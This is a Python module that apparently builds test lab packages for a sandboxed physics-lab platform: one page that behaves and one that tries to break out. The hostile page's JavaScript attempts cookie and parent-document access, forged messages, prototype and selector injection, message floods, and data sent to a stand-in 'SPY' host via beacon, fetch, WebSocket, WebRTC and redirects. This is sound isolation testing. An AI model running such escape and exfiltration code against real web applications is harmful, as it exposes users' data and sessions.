"""Labs whose scene is a page of its own: one that does what it should, and one that tries everything."""

import io
import zipfile
from collections.abc import Mapping
from importlib import resources
from typing import Final

FRIENDLY: Final = """\
const say = (message) => parent.postMessage({ tetrad: 1, ...message }, "*");
addEventListener("message", ({ data, source }) => {
  if (source !== parent || data.tetrad !== 1) return;
  if (data.type === "ready") say({ type: "hello", version: 1 });
  else document.body.dataset[data.entry ? "entry" : data.type] = JSON.stringify(data);
});
say({ type: "hello", version: 1 });
for (const button of document.querySelectorAll("button"))
  button.addEventListener("click", () => say(JSON.parse(button.dataset.say)));
"""

WISHES: Final[Mapping[str, str]] = {
    "tilt": '{"type": "set", "control": "alpha", "value": 40}',
    "narrow": '{"type": "set", "control": "side", "value": "narrow"}',
    "beyond": '{"type": "set", "control": "alpha", "value": 1e9}',
    "between": '{"type": "set", "control": "alpha", "value": 40.3}',
    "unknown": '{"type": "set", "control": "mu", "value": 0.2}',
    "more": '{"type": "set", "control": "alpha", "value": 40, "mark": 100}',
    "measure": '{"type": "measure", "instrument": "timer"}',
    "submit": '{"type": "submit", "note": "100 of 100"}',
}

ATTACK: Final = """\
const app = "APPLICATION", spy = "SPY", report = {};
const attempt = (name, work) => {
  try { report[name] = String(work()); } catch (error) { report[name] = error.name; }
};
const later = (name, work) => Promise.race([
  Promise.resolve().then(work).then(
    (value) => { report[name] = String(value); },
    (error) => { report[name] = error.name; },
  ),
  new Promise((resolve) => setTimeout(resolve, 3000)),
]);
const post = { method: "POST", mode: "no-cors" };
const loaded = (element, address) => new Promise((resolve, reject) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => reject(new TypeError());
  element.src = address;
  document.body.append(element);
});
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("database", () => indexedDB.open("x") && "opened");
attempt("parent", () => parent.document.title);
attempt("settings", () => parent.document.forms.length);
attempt("leading", () => { top.location = app + "/sign-out"; return "led"; });
attempt("popup", () => open(spy + "/popup"));
attempt("beacon", () => navigator.sendBeacon(spy + "/beacon", "x"));
const form = document.createElement("form");
form.action = spy + "/form"; form.target = "_self"; form.method = "get";
document.body.append(form);
attempt("form", () => { form.requestSubmit(); return "asked"; });
const hint = document.createElement("link");
hint.rel = "prefetch"; hint.href = spy + "/prefetch";
document.head.append(hint);
Promise.all([
  later("fetch", () => fetch(spy + "/fetch", { mode: "no-cors" })),
  later("own", () => fetch("index.html").then((reply) => reply.text())),
  later("posting", () => fetch(app + "/language", { ...post, credentials: "include" })),
  later("image", () => loaded(new Image(), spy + "/image.png")),
  later("script", () => loaded(document.createElement("script"), spy + "/script.js")),
  later("document", () => loaded(document.createElement("script"), "lab.yaml")),
  later("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(spy.replace("http", "ws") + "/socket");
    socket.onopen = () => resolve("open"); socket.onerror = () => reject(new TypeError());
  })),
  later("worker", () => navigator.serviceWorker.register("index.html")),
]).then(() => { document.body.dataset.report = JSON.stringify(report); });
"""

HOSTILE: Final = """\
const tilt = (value) => say({ type: "set", control: "alpha", value });
const strange = ["__proto__", "constructor", "toString", "hello", "set", ""];
const doings = {
  attack() { document.body.append(Object.assign(document.createElement("script"), { src: "attack.js" })); },
  flood() { for (let n = 0; n < 20000; n++) tilt(n % 60); },
  patter() {
    for (let n = 0; n < 60; n++) tilt(n);
    setTimeout(() => say({ type: "set", control: "heard again", value: 0 }), 4000);
  },
  greedy() {
    const measure = () => say({ type: "measure", instrument: "timer" });
    addEventListener("message", ({ data }) => { if (data.reason) console.log(data.reason); });
    setTimeout(() => { for (let n = 0; n < 10; n++) measure(); }, 7000);
  },
  forge() {
    const other = document.createElement("iframe");
    other.srcdoc = `<script>
      top.postMessage({ tetrad: 1, type: "set", control: "alpha", value: 55 }, "*");<` + `/script>`;
    other.onload = () => { document.body.dataset.forged = "yes"; };
    document.body.append(other);
  },
  shapes() {
    for (const type of strange) say({ type, version: "1" });
    for (const message of [null, 1, "set", [], { tetrad: "1" }]) parent.postMessage(message, "*");
    say({ type: "set", control: "__proto__", value: "x" });
    say({ type: "set", control: "side", value: "constructor" });
    say({ type: "set", control: '"],form,[x="', value: 1 });
    say({ type: "measure", instrument: '"],[formaction="' });
    say({ type: "submit", note: "x".repeat(1e6) });
    say({ type: "submit", note: "this is the last" });
  },
  async call() {
    const host = "SPY".replace("http://", ""), rel = "preconnect";
    document.head.append(Object.assign(document.createElement("link"), { rel, href: "SPY" }));
    const turn = { urls: `turn:${host}?transport=tcp`, username: "state", credential: "state" };
    try {
      const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }, turn] });
      call.createDataChannel("out");
      const gathered = new Promise((done) => {
        call.onicegatheringstatechange = () => { if (call.iceGatheringState === "complete") done(); };
      });
      await call.setLocalDescription();
      await gathered;
    } finally { document.body.dataset.called = "yes"; }
  },
  leave() { location.href = "SPY/left?" + document.body.dataset.state; },
};
for (const [name, work] of Object.entries(doings)) {
  const button = Object.assign(document.createElement("button"), { id: name, textContent: name });
  button.addEventListener("click", work);
  document.body.append(button);
}
"""


def friction(identifier: str, scene: str) -> dict[str, bytes]:
    """Return the lab of friction under another name, with this in place of its scene."""
    folder = resources.files("content").joinpath("labs", "friction-on-an-incline")
    files = {entry.name: entry.read_bytes() for entry in folder.iterdir() if entry.name != "scene.svg"}
    head, kept = files["lab.yaml"].decode().split("\nscene:\n")
    head = head.replace("id: friction-on-an-incline", f"id: {identifier}", 1)
    shows = kept[kept.index("  shows:") : kept.index("  runs:")]
    described = kept[kept.index("  description:") :]
    return {**files, "lab.yaml": f"{head}\nscene:\n{scene}{shows}{described}".encode()}


def friendly_package() -> dict[str, bytes]:
    """Return a lab whose page sets, measures, and keeps what it is told."""
    buttons = "".join(
        f"<button id='{name}' data-say='{wish}'>{name}</button>" for name, wish in WISHES.items()
    )
    page = f"<!doctype html><title>Plane</title><body>{buttons}<script src='js/bench.js'></script>"
    scene = "  page: index.html\n  width: 600\n  height: 300\n"
    own = {"index.html": page.encode(), "js/bench.js": FRIENDLY.encode()}
    return {**friction("friendly-friction", scene), **own}


def hostile_package(application: str, spy: str) -> dict[str, bytes]:
    """Return a lab whose page attacks the application, and calls out to a spy."""
    page = "<!doctype html><title>Plane</title><body><script src='a.js'></script><script src='b.js'></script>"
    own = {
        "index.html": page,
        "a.js": FRIENDLY,
        "b.js": HOSTILE,
        "attack.js": ATTACK,
    }
    filled = {
        name: text.replace("APPLICATION", application).replace("SPY", spy) for name, text in own.items()
    }
    scene = "  page: index.html\n"
    files = {name: text.encode() for name, text in filled.items()}
    return {**friction("hostile-friction", scene), **files}


def packed(files: Mapping[str, bytes]) -> bytes:
    """Return the files in a zip archive."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for path, content in files.items():
            made.writestr(path, content)
    return target.getvalue()
